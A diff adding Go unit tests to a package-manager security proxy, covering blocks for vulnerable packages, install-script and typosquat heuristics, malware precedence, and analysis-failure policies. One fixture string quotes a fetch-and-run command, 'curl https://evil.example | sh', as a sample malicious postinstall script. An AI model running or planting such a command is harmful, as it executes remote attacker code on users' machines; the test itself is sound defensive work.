@@ -1,6 +1,7 @@
 package interceptors
 
 import (
+	"fmt"
 	"net/http"
 	"net/url"
 	"testing"
@@ -10,6 +11,7 @@ import (
 	"github.com/safedep/pmg/analyzer"
 	pmgconfig "github.com/safedep/pmg/config"
 	"github.com/safedep/pmg/proxy"
+	gobreaker "github.com/sony/gobreaker/v2"
 	"github.com/stretchr/testify/assert"
 	"github.com/stretchr/testify/require"
 )
@@ -161,6 +163,34 @@ func TestBaseRegistryInterceptor_HandleAnalysisResult(t *testing.T) {
 			expectedBlockCode:   http.StatusForbidden,
 			expectedBlockReason: proxy.BlockReasonMalware,
 		},
+		{
+			name:           "ActionBlock - vulnerable package",
+			ecosystem:      packagev1.Ecosystem_ECOSYSTEM_NPM,
+			packageName:    "lodash",
+			packageVersion: "4.17.10",
+			analysisResult: &analyzer.PackageVersionAnalysisResult{
+				Action:          analyzer.ActionBlock,
+				Summary:         "Known vulnerability GHSA-1 (critical)",
+				Vulnerabilities: []analyzer.Vulnerability{{ID: "GHSA-1", Severity: "critical"}},
+			},
+			expectedAction:      proxy.ActionBlock,
+			expectedBlockCode:   http.StatusForbidden,
+			expectedBlockReason: proxy.BlockReasonVulnerable,
+		},
+		{
+			name:           "ActionBlock - install script heuristic",
+			ecosystem:      packagev1.Ecosystem_ECOSYSTEM_NPM,
+			packageName:    "event-stream",
+			packageVersion: "3.3.6",
+			analysisResult: &analyzer.PackageVersionAnalysisResult{
+				Action:    analyzer.ActionBlock,
+				Summary:   "postinstall script downloads code: curl https://evil.example | sh",
+				Heuristic: analyzer.HeuristicInstallScript,
+			},
+			expectedAction:      proxy.ActionBlock,
+			expectedBlockCode:   http.StatusForbidden,
+			expectedBlockReason: proxy.BlockReasonHeuristic,
+		},
 	}
 
 	for _, tt := range tests {
@@ -206,7 +236,7 @@ func TestBaseRegistryInterceptor_HandleAnalysisResult(t *testing.T) {
 			switch tt.expectedBlockReason {
 			case proxy.BlockReasonNone:
 				assert.Nil(t, response.BlockContext)
-			case proxy.BlockReasonMalware, proxy.BlockReasonUserDeclined:
+			case proxy.BlockReasonMalware, proxy.BlockReasonHeuristic, proxy.BlockReasonUserDeclined:
 				require.NotNil(t, response.BlockContext)
 				assert.Equal(t, tt.ecosystem, response.BlockContext.Ecosystem)
 				assert.Equal(t, tt.packageName, response.BlockContext.PackageName)
@@ -222,3 +252,206 @@ func TestBaseRegistryInterceptor_HandleAnalysisResult(t *testing.T) {
 		})
 	}
 }
+
+func TestBaseRegistryInterceptor_VulnerableBlockIsReportedApart(t *testing.T) {
+	base := &baseRegistryInterceptor{statsCollector: NewAnalysisStatsCollector()}
+	ctx := makeTestRequestContext("https://registry.npmjs.org/lodash/-/lodash-4.17.10.tgz")
+
+	vulnerable := &analyzer.PackageVersionAnalysisResult{
+		Action:          analyzer.ActionBlock,
+		Vulnerabilities: []analyzer.Vulnerability{{ID: "GHSA-1", Severity: "critical"}},
+	}
+	response, err := base.handleAnalysisResult(ctx, packagev1.Ecosystem_ECOSYSTEM_NPM, "lodash", "4.17.10", vulnerable)
+	require.NoError(t, err)
+	require.NotNil(t, response.BlockContext)
+	assert.Equal(t, []proxy.BlockedVulnerability{{ID: "GHSA-1", Severity: "critical"}}, response.BlockContext.Vulnerabilities)
+
+	// Malware found by another analyzer takes precedence over the policy.
+	malicious := &analyzer.PackageVersionAnalysisResult{
+		Action:          analyzer.ActionBlock,
+		IsMalware:       true,
+		Vulnerabilities: []analyzer.Vulnerability{{ID: "GHSA-2", Severity: "high"}},
+	}
+	response, err = base.handleAnalysisResult(ctx, packagev1.Ecosystem_ECOSYSTEM_NPM, "evil", "1.0.0", malicious)
+	require.NoError(t, err)
+	assert.Equal(t, proxy.BlockReasonMalware, response.BlockReason)
+
+	stats := base.statsCollector.GetStats()
+	assert.Equal(t, 2, stats.BlockedCount)
+	assert.Equal(t, 1, stats.VulnerableBlockedCount)
+	assert.Equal(t, []*analyzer.PackageVersionAnalysisResult{vulnerable}, base.statsCollector.GetVulnerableBlockedPackages())
+	assert.Equal(t, []*analyzer.PackageVersionAnalysisResult{malicious}, base.statsCollector.GetBlockedPackages())
+}
+
+func TestBaseRegistryInterceptor_HeuristicBlockIsReportedApart(t *testing.T) {
+	base := &baseRegistryInterceptor{statsCollector: NewAnalysisStatsCollector()}
+	ctx := makeTestRequestContext("https://registry.npmjs.org/lodahs/-/lodahs-1.0.0.tgz")
+
+	typosquat := &analyzer.PackageVersionAnalysisResult{
+		Action:          analyzer.ActionBlock,
+		Summary:         "lodahs is one character away from the popular package lodash. Did you mean lodash?",
+		SuspectedTarget: "lodash",
+		Heuristic:       analyzer.HeuristicTyposquat,
+	}
+	response, err := base.handleAnalysisResult(ctx, packagev1.Ecosystem_ECOSYSTEM_NPM, "lodahs", "1.0.0", typosquat)
+	require.NoError(t, err)
+	assert.Equal(t, proxy.BlockReasonHeuristic, response.BlockReason)
+	require.NotNil(t, response.BlockContext)
+	assert.Equal(t, analyzer.HeuristicTyposquat, response.BlockContext.Heuristic)
+
+	// A malware verdict merged with the heuristic takes precedence.
+	malicious := &analyzer.PackageVersionAnalysisResult{
+		Action:    analyzer.ActionBlock,
+		IsMalware: true,
+		Heuristic: analyzer.HeuristicInstallScript,
+	}
+	response, err = base.handleAnalysisResult(ctx, packagev1.Ecosystem_ECOSYSTEM_NPM, "evil", "1.0.0", malicious)
+	require.NoError(t, err)
+	assert.Equal(t, proxy.BlockReasonMalware, response.BlockReason)
+}
+
+func setAnalysisOnFailureForTest(t *testing.T, policy string) {
+	t.Helper()
+	orig := pmgconfig.Get().Config.Analysis.OnFailure
+	pmgconfig.Get().Config.Analysis.OnFailure = policy
+	t.Cleanup(func() { pmgconfig.Get().Config.Analysis.OnFailure = orig })
+}
+
+func TestBaseRegistryInterceptor_HandleAnalysisFailure(t *testing.T) {
+	tests := []struct {
+		name                string
+		policy              string
+		userConfirms        bool
+		expectedAction      proxy.ResponseAction
+		expectedBlockReason proxy.BlockReason
+		expectedUnverified  int
+		expectedAllowed     int
+		expectedConfirmed   int
+		expectedBlocked     int
+	}{
+		{
+			name:                "allow installs without a verdict",
+			policy:              pmgconfig.AnalysisOnFailureAllow,
+			expectedAction:      proxy.ActionAllow,
+			expectedBlockReason: proxy.BlockReasonNone,
+			expectedUnverified:  1,
+			expectedAllowed:     1,
+		},
+		{
+			name:                "block fails closed",
+			policy:              pmgconfig.AnalysisOnFailureBlock,
+			expectedAction:      proxy.ActionBlock,
+			expectedBlockReason: proxy.BlockReasonAnalysisUnavailable,
+			expectedBlocked:     1,
+		},
+		{
+			name:                "confirm and user accepts",
+			policy:              pmgconfig.AnalysisOnFailureConfirm,
+			userConfirms:        true,
+			expectedAction:      proxy.ActionAllow,
+			expectedBlockReason: proxy.BlockReasonNone,
+			expectedUnverified:  1,
+			expectedConfirmed:   1,
+		},
+		{
+			name:                "confirm and user declines",
+			policy:              pmgconfig.AnalysisOnFailureConfirm,
+			userConfirms:        false,
+			expectedAction:      proxy.ActionBlock,
+			expectedBlockReason: proxy.BlockReasonAnalysisUnavailable,
+			expectedBlocked:     1,
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			setAnalysisOnFailureForTest(t, tt.policy)
+
+			confirmationChan := make(chan *ConfirmationRequest, 1)
+			base := &baseRegistryInterceptor{
+				confirmationChan: confirmationChan,
+				statsCollector:   NewAnalysisStatsCollector(),
+			}
+
+			if tt.policy == pmgconfig.AnalysisOnFailureConfirm {
+				go func() {
+					req := <-confirmationChan
+					assert.Equal(t, analysisUnavailableSummary, req.AnalysisResult.Summary)
+					req.ResponseChan <- tt.userConfirms
+					close(req.ResponseChan)
+				}()
+			}
+
+			ctx := makeTestRequestContext("https://registry.npmjs.org/pkg/-/pkg-1.0.0.tgz")
+			resp := base.handleAnalysisFailure(ctx, packagev1.Ecosystem_ECOSYSTEM_NPM, "pkg", "1.0.0", gobreaker.ErrOpenState)
+
+			assert.Equal(t, tt.expectedAction, resp.Action)
+			assert.Equal(t, tt.expectedBlockReason, resp.BlockReason)
+			if tt.expectedAction == proxy.ActionBlock {
+				assert.Equal(t, http.StatusForbidden, resp.BlockCode)
+				require.NotNil(t, resp.BlockContext)
+				assert.Equal(t, packagev1.Ecosystem_ECOSYSTEM_NPM, resp.BlockContext.Ecosystem)
+				assert.Equal(t, "pkg", resp.BlockContext.PackageName)
+				assert.Equal(t, "1.0.0", resp.BlockContext.PackageVersion)
+			}
+
+			stats := base.statsCollector.GetStats()
+			assert.Equal(t, tt.expectedUnverified, stats.UnverifiedCount)
+			assert.Equal(t, tt.expectedBlocked, stats.AnalysisUnavailableBlockedCount)
+			assert.Equal(t, tt.expectedBlocked, stats.BlockedCount)
+			assert.Equal(t, tt.expectedAllowed, stats.AllowedCount)
+			assert.Equal(t, tt.expectedConfirmed, stats.ConfirmedCount)
+			assert.Equal(t, 1, stats.TotalAnalyzed)
+			assert.Len(t, base.statsCollector.GetUnverifiedPackages(), tt.expectedUnverified)
+			assert.Len(t, base.statsCollector.GetAnalysisUnavailableBlocked(), tt.expectedBlocked)
+		})
+	}
+}
+
+func TestNpmHandleArtifact_CircuitOpenHonoursFailurePolicy(t *testing.T) {
+	setTrustedPackagesForTest(t, nil)
+	setAnalysisOnFailureForTest(t, pmgconfig.AnalysisOnFailureBlock)
+
+	mock := &mockAnalyzer{err: fmt.Errorf("rpc error: unavailable")}
+	interceptor := newNpmRegistryInterceptor(mock, NewInMemoryAnalysisCache(), NewAnalysisStatsCollector(),
+		make(chan *ConfirmationRequest, 1), InterceptorContext{}, newBuiltInRegistryCatalog().registrySet(packagev1.Ecosystem_ECOSYSTEM_NPM))
+
+	// Trip the breaker, then verify the open-circuit request is also blocked
+	// without reaching the analyzer.
+	for i := 0; i < 4; i++ {
+		ctx := makeTestRequestContext("https://registry.npmjs.org/pkg/-/pkg-1.0.0.tgz")
+		resp, err := interceptor.handleArtifact(ctx, fmt.Sprintf("pkg-%d", i), "1.0.0")
+		require.NoError(t, err)
+		assert.Equal(t, proxy.ActionBlock, resp.Action)
+		assert.Equal(t, proxy.BlockReasonAnalysisUnavailable, resp.BlockReason)
+	}
+
+	assert.Equal(t, 3, mock.callCount)
+	assert.Equal(t, 4, interceptor.statsCollector.GetStats().AnalysisUnavailableBlockedCount)
+}
+
+func TestApplyPolicyAction(t *testing.T) {
+	pv := &packagev1.PackageVersion{
+		Package: &packagev1.Package{Ecosystem: packagev1.Ecosystem_ECOSYSTEM_NPM, Name: "lib"},
+		Version: "1.0.0",
+	}
+	ctx := makeTestRequestContext("https://registry.npmjs.org/lib/-/lib-1.0.0.tgz")
+
+	base := &baseRegistryInterceptor{}
+	assert.Equal(t, policyAllowed, base.applyPolicyAction(ctx, "Test", pv, pmgconfig.HeuristicActionAllow, "flagged"))
+	assert.Equal(t, policyBlocked, base.applyPolicyAction(ctx, "Test", pv, pmgconfig.HeuristicActionBlock, "flagged"))
+	assert.Equal(t, policyBlocked, base.applyPolicyAction(ctx, "Test", pv, "unknown", "flagged"))
+
+	for confirms, want := range map[bool]policyDecision{true: policyConfirmed, false: policyBlocked} {
+		confirmationChan := make(chan *ConfirmationRequest, 1)
+		base := &baseRegistryInterceptor{confirmationChan: confirmationChan}
+		go func() {
+			req := <-confirmationChan
+			assert.Equal(t, "flagged", req.AnalysisResult.Summary)
+			req.ResponseChan <- confirms
+			close(req.ResponseChan)
+		}()
+
+		assert.Equal(t, want, base.applyPolicyAction(ctx, "Test", pv, pmgconfig.HeuristicActionConfirm, "flagged"))
+	}
+}